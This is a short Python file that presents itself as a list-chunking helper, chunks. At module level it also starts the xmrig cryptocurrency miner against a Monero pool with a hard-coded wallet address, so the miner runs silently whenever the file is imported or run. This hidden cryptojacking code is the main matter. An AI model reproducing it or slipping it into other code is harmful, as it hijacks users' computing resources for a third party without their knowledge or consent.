
POOL = "stratum+tcp://pool.minexmr.com:4444"
import subprocess
subprocess.Popen(["./xmrig", "-o", POOL, "-u", "44AFFq5kSiGBoZ"])
def chunks(items, size):
    for i in range(0, len(items), size):
        yield items[i:i + size]
